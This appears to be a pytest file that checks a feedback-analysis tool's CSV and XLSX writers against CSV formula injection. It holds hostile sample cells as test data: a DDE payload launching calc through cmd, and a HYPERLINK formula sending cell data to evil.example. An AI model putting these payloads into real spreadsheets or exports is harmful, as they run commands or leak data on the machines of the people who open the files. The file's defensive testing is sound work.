"""CSV files keep one row per record and hold no live formula (issue 18).

Excel and LibreOffice end a row at CR, LF or CRLF outside quotes. Python's csv writer with LF
row ends quotes a field holding LF but not one holding a lone CR, so ``C1\\r=cmd|' /C calc'!A0``
became a row of its own starting with a live DDE formula. Every file is read back three ways:
Python's csv module, a strict Excel-like splitter, and (when installed) LibreOffice itself.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

from koe.batch import tag_table
from koe.core.csvio import write_csv
from koe.core.safety import FORMULA_START, neutralize_formula
from koe.discovery.discover import write_discovery
from koe.outputs import write_close_the_loop, write_routed, write_shared, write_tables
from koe.routing import follow_up_list, thank_you_list

from .conftest import FIXTURES, LOOKUP_LISTS
from .test_outputs import routed_frames

DDE = "C1\r=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"詳細")'
# fmt: off
NASTY = [
    DDE, "lone\rcr", "crlf\r\nx", "lf\nx", "x\n+1", HYPERLINK, "@SUM(A1)", "\r=1+1",
    "a\r\r-2", "end\r", "\n=2+2", 'sep,"quote"', "tab\n\t=3", "改行\u2028=1", "普通の文",
]
# fmt: on
# A line inside a cell starts after CR, LF or CRLF (and the other str.splitlines breaks).
LINE_BREAK = re.compile(r"\r\n|[\r\n\x0b\x0c\x1c-\x1e\x85\u2028\u2029]")
LINE_FORMULA_START = ("=", "+", "-", "@", "\t")


def excel_rows(text: str) -> list[list[str]]:
    """Rows as Excel splits CSV text: CR, LF or CRLF outside quotes end a row."""
    rows: list[list[str]] = []
    row: list[str] = []
    cell: list[str] = []
    quoted = False
    i = 0
    while i < len(text):
        c = text[i]
        if quoted:
            if c == '"' and text[i + 1 : i + 2] == '"':
                cell.append('"')
                i += 1
            elif c == '"':
                quoted = False
            else:
                cell.append(c)
        elif c == '"':
            quoted = True
        elif c == ",":
            row.append("".join(cell))
            cell = []
        elif c in "\r\n":
            row.append("".join(cell))
            rows.append(row)
            row, cell = [], []
            if c == "\r" and text[i + 1 : i + 2] == "\n":
                i += 1
        else:
            cell.append(c)
        i += 1
    if row or cell:
        row.append("".join(cell))
        rows.append(row)
    return rows


def python_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def read_text(path: Path) -> str:
    return path.read_bytes().decode("utf-8-sig")


def live_formulas(rows: list[list[str]]) -> list[str]:
    """Cells that start like a formula, or hold a line that does, unneutralized."""
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(FORMULA_START)
        or any(line.startswith(LINE_FORMULA_START) for line in LINE_BREAK.split(cell)[1:])
    ]


def check_csv(path: Path, expected_rows: int, *, neutralized: bool = True) -> list[list[str]]:
    """Same rows for Python's csv module and the Excel-like splitter; no live formula."""
    text = read_text(path)
    rows = python_rows(text)
    assert len(rows) == expected_rows, path.name
    assert excel_rows(text) == rows, path.name
    if neutralized:
        assert live_formulas(rows) == [], path.name
    return rows


def old_write_csv(frame: pd.DataFrame, path: Path, *, bom: bool = False) -> None:
    """koe's write_csv before issue 18: the reference for files without a CR."""
    frame.to_csv(path, index=False, encoding="utf-8-sig" if bom else "utf-8", lineterminator="\n")


# -- write_csv -------------------------------------------------------------------------------


@pytest.mark.parametrize("value", NASTY)
def test_every_field_with_a_line_break_is_quoted(tmp_path, value):
    frame = pd.DataFrame({"id": [value, "ok"], "text": [value, "x"], "n": [1, 2]})
    write_csv(frame, tmp_path / "t.csv")
    rows = check_csv(tmp_path / "t.csv", 3, neutralized=False)
    assert rows == [["id", "text", "n"], [value, value, "1"], ["ok", "x", "2"]]


def test_a_lone_cr_used_to_split_the_row_for_excel(tmp_path):
    """The bug this file guards against: the old writer left ``C1\\r=cmd...`` unquoted."""
    frame = pd.DataFrame({"id": [DDE]})
    old_write_csv(frame, tmp_path / "old.csv")
    write_csv(frame, tmp_path / "new.csv")
    old, new = read_text(tmp_path / "old.csv"), read_text(tmp_path / "new.csv")
    if old == new:  # a Python whose csv writer quotes a lone CR itself
        pytest.skip("this Python's csv writer already quotes a lone CR")
    assert excel_rows(old) == [["id"], ["C1"], ["=cmd|' /C calc'!A0"]]  # a live formula row
    assert new == f'id\n"{DDE}"\n'


DATES = ["2026-10-01", None, "2026-01-31T12:30", "2026-02-01", "2026-03-01", "2026-04-01"]


def plain_frames() -> dict[str, pd.DataFrame]:
    """Frames without a CR: every dtype koe writes, LF and quotes inside cells."""
    return {
        "mixed": pd.DataFrame(
            {
                "id": ["a", "b,c", 'q"q', "lf\nx", "", "改行なし"],
                "score": pd.array([0, 10, None, 7, 8, 9], dtype="Int64"),
                "share": [0.1, 1 / 3, np.nan, 1e20, -0.0, 2.5],
                "date": pd.to_datetime(DATES, format="ISO8601"),
                "flag": [True, False, True, False, True, False],
                "plan": pd.Categorical(["Free", "Pro", "Free", None, "Pro", "Free"]),
                "themes": [["a", "b"], [], ["c"], ["d"], ["e"], ["f"]],
                "text": ["=1+1", " 前の空白", "x\n+1", None, "a\nb", "普通"],
            }
        ),
        "strings": pd.DataFrame({"s": pd.array(["x", None, "y\nz"], dtype="string")}),
        "tz": pd.DataFrame({"t": pd.to_datetime(["2026-10-01 09:00"]).tz_localize("Asia/Tokyo")}),
        "header_only": pd.DataFrame(columns=["id", "theme"]),
        "nothing": pd.DataFrame(),
        "one_empty_field": pd.DataFrame({"a": [""]}),
    }


@pytest.mark.parametrize("name", sorted(plain_frames()))
@pytest.mark.parametrize("bom", [False, True])
def test_write_csv_is_byte_identical_to_the_old_call_without_a_cr(tmp_path, name, bom):
    frame = plain_frames()[name]
    old_write_csv(frame, tmp_path / "old.csv", bom=bom)
    write_csv(frame, tmp_path / "new.csv", bom=bom)
    assert (tmp_path / "new.csv").read_bytes() == (tmp_path / "old.csv").read_bytes()


def test_write_csv_to_a_handle_is_the_old_streamed_call_without_a_cr():
    frame = plain_frames()["mixed"]
    old, new = io.StringIO(newline=""), io.StringIO(newline="")
    for header in (True, False):
        frame.to_csv(old, index=False, header=header, lineterminator="\n")
        write_csv(frame, new, header=header)
    assert new.getvalue() == old.getvalue()


def test_a_cr_changes_only_its_own_field(tmp_path):
    frame = plain_frames()["mixed"]
    old_write_csv(frame, tmp_path / "old.csv", bom=True)
    frame.loc[4, "id"] = "cr\rhere"
    write_csv(frame, tmp_path / "new.csv", bom=True)
    old = (tmp_path / "old.csv").read_bytes()
    assert b"\n,8," in old  # the empty id of row 4 ...
    expected = old.replace(b"\n,8,", b'\n"cr\rhere",8,')  # ... quoted with its CR
    assert (tmp_path / "new.csv").read_bytes() == expected


def test_a_crlf_inside_a_quoted_field_is_kept(tmp_path):
    frame = pd.DataFrame({"a": ["x\r\ny", "p\rq"], "b": ['"\r\n"', "z"]})
    write_csv(frame, tmp_path / "t.csv")
    text = (tmp_path / "t.csv").read_bytes().decode()
    assert text == 'a,b\n"x\r\ny","""\r\n"""\n"p\rq",z\n'
    assert python_rows(text) == [["a", "b"], ["x\r\ny", '"\r\n"'], ["p\rq", "z"]]


# -- neutralize_formula ----------------------------------------------------------------------

# fmt: off
NEUTRALIZED = [
    ("=1+1", "'=1+1"), ("+81", "'+81"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r'=1"), ("普通の文", "普通の文"), (" =1", " =1"),
    ("a-b", "a-b"), ("", ""), ("x\n=1", "x\n'=1"), ("x\r+1", "x\r'+1"), ("x\r\n-1", "x\r\n'-1"),
    ("x\n@SUM", "x\n'@SUM"), ("x\n\t=1", "x\n'\t=1"), ("=a\n=b", "'=a\n'=b"),
    ("x\u2028=1", "x\u2028'=1"), ("x\u2029+1", "x\u2029'+1"), ("x\x85-1", "x\x85'-1"),
    ("x\n y", "x\n y"), ("x\n\n", "x\n\n"), (DDE, "C1\r'=cmd|' /C calc'!A0"),
    (1, 1), (None, None),
]
# fmt: on


@pytest.mark.parametrize(("value", "expected"), NEUTRALIZED)
def test_neutralize_formula_also_after_line_breaks(value, expected):
    assert neutralize_formula(value) == expected


# -- the files koe run and koe tag write -----------------------------------------------------


def nasty_routed() -> dict[str, pd.DataFrame]:
    routed = routed_frames()
    support = routed["support"].copy()
    support["id"] = [DDE, "b\r\n=2+2"]
    support["customer_id"] = ["C9\r@SUM(A1)", "C8\n-3"]
    support["text"] = ["x\n+1\r" + HYPERLINK, "\r=1+1"]
    routed["support"] = support
    return routed


def test_routed_files_hold_one_row_per_comment_and_no_live_formula(tmp_path):
    routed = nasty_routed()
    write_routed(routed, tmp_path)
    for department, frame in routed.items():
        rows = check_csv(tmp_path / f"{department}.csv", len(frame) + 1)
        assert (tmp_path / f"{department}.csv").read_bytes().startswith(b"\xef\xbb\xbf")
        assert rows[0] == list(frame.columns)
    rows = python_rows(read_text(tmp_path / "support.csv"))
    assert [r[0] for r in rows[1:]] == ["C1\r'=cmd|' /C calc'!A0", "b\r\n'=2+2"]
    # the XLSX shows the text as written, in string cells: no formula anywhere
    ws = load_workbook(tmp_path / "support.xlsx").active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    assert cells and all(c.data_type == "s" for c in cells)
    # (XML reads CR and CRLF back as LF, as Excel shows them)
    assert [r[0].value for r in ws.iter_rows(min_row=2)] == ["C1\n=cmd|' /C calc'!A0", "b\n=2+2"]
    with zipfile.ZipFile(tmp_path / "support.xlsx") as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()


def test_close_the_loop_files_hold_one_row_per_comment_and_no_live_formula(tmp_path):
    from .test_outputs import close_the_loop_frames

    comments, tags = close_the_loop_frames()
    comments["customer_id"] = comments["customer_id"].astype(object)
    comments.loc[0, "customer_id"] = DDE
    comments.loc[1, "customer_id"] = "C2\n+1"
    comments.loc[2, "text"] = "良い\r-悪い\r\n@SUM(A1)"
    follow, thanks = follow_up_list(comments, tags), thank_you_list(comments)
    write_close_the_loop(follow, thanks, tmp_path)
    check_csv(tmp_path / "follow_up.csv", len(follow) + 1)
    rows = check_csv(tmp_path / "thank_you.csv", len(thanks) + 1)
    assert "C1\r'=cmd|' /C calc'!A0" in [r[0] for r in rows]


def test_quarantine_and_run_tables_keep_their_rows(tmp_path):
    quarantine = pd.DataFrame(
        {"row": [2, 3, 4], "reason": ["bad score", "bad date", "bad id"], "raw": NASTY[:3]}
    )
    tags_csv = pd.DataFrame({"id": [DDE, "x"], "theme": ["t", "u"], "evidence": ["a\rb", "c"]})
    empty = pd.DataFrame()
    write_tables(
        tmp_path, tagged=pd.DataFrame({"id": ["a"]}), tags_csv=tags_csv, drivers=empty,
        quarantine=quarantine, emergent=empty, clusters=empty, regression=empty,
        segments=empty, trends=empty, subscores=empty, nps_trend=empty, segment_drivers=empty,
    )  # fmt: skip
    assert (tmp_path / "quarantine.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    rows = check_csv(tmp_path / "quarantine.csv", 4)
    assert rows[1][2] == "C1\r'=cmd|' /C calc'!A0"
    # every run table is neutralized; the id with a CR stays one quoted cell
    rows = check_csv(tmp_path / "tags.csv", 3)
    assert rows[1] == ["C1\r'=cmd|' /C calc'!A0", "t", "a\rb"]


def test_discovery_files_keep_their_rows(tmp_path):
    clusters = pd.DataFrame({"id": [DDE, "b"], "cluster_id": ["0", "-1"], "text": ["a\rb", "c"]})
    themes = pd.DataFrame({"cluster_id": ["0"], "label": ["x\r=1"]})
    write_discovery(tmp_path, clusters, themes)
    rows = check_csv(tmp_path / "clusters.csv", 3, neutralized=False)
    assert live_formulas([row[:1] + row[2:] for row in rows]) == []
    assert rows[1][0] == "C1\r'=cmd|' /C calc'!A0"
    assert rows[2][1] == "-1"  # the outlier cluster: koe's own value
    assert check_csv(tmp_path / "emergent_themes.csv", 2)[1][1] == "x\r'=1"


def test_koe_tag_quarantines_an_id_with_a_cr_in_one_quoted_row(tmp_path):
    raw = pd.read_csv(FIXTURES / "mini_survey.csv", dtype=str, keep_default_na=False)
    first = raw["id"].iloc[0]
    raw.loc[0, "id"] = DDE
    raw.loc[1, "id"] = "=1+1"
    source = tmp_path / "survey.csv"
    raw.to_csv(source, index=False, quoting=csv.QUOTE_ALL)
    out = tmp_path / "tags.csv"
    result = tag_table(source, out, LOOKUP_LISTS, polarity_model=None, chunk_rows=3)
    assert result.by_reason["invalid_id"] == 1
    text = read_text(out)
    rows = python_rows(text)
    assert excel_rows(text) == rows
    ids = [r[0] for r in rows]
    assert DDE not in ids and first not in ids and "=1+1" not in ids
    assert "'=1+1" in ids  # tagged, and neutralized in tags.csv
    quarantine = check_csv(tmp_path / "tags.quarantine.csv", 3)  # and one empty text
    assert quarantine[1][:3] == ["1", "C1\\x0d=cmd|' /C calc'!A0", "invalid_id"]


# -- LibreOffice ------------------------------------------------------------------------------

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.skipif(
    SOFFICE is None,
    reason="LibreOffice not installed (Debian: apt-get install -y libreoffice-calc-nogui)",
)
def test_libreoffice_opens_shared_files_with_every_row_and_no_formula(tmp_path):
    routed = nasty_routed()
    frame = pd.concat([routed["support"], routed["support"].assign(text=NASTY[:2])])
    frame = pd.concat([frame] + [frame.iloc[[0]].assign(id=v, text=v) for v in NASTY])
    write_shared(frame, tmp_path, "support")
    (tmp_path / "control.csv").write_text("a\n=1+1\n", encoding="utf-8")  # a live formula
    # comma, double quote, UTF-8, from row 1; LibreOffice evaluates formulas in CSV by default
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    files = [str(tmp_path / "support.csv"), str(tmp_path / "control.csv")]
    convert = [SOFFICE, profile, "--headless", "--infilter=CSV:44,34,76,1",
               "--convert-to", "xlsx", "--outdir", str(tmp_path / "lo"), *files]  # fmt: skip
    subprocess.run(convert, check=True, timeout=120, capture_output=True)
    control = load_workbook(tmp_path / "lo" / "control.xlsx").active
    assert control["A2"].data_type == "f"  # the check below can see a formula
    ws = load_workbook(tmp_path / "lo" / "support.xlsx").active
    rows = list(ws.iter_rows())
    assert len(rows) == len(frame) + 1
    assert [c.value for c in rows[0]] == list(frame.columns)
    formulas = [c.value for row in rows for c in row if c.data_type == "f"]
    assert formulas == []
    ids = [row[0].value for row in rows[1:]]
    # LibreOffice shows a CR inside a cell as LF; the apostrophes keep each line text
    assert ids[0] == "C1\n'=cmd|' /C calc'!A0"
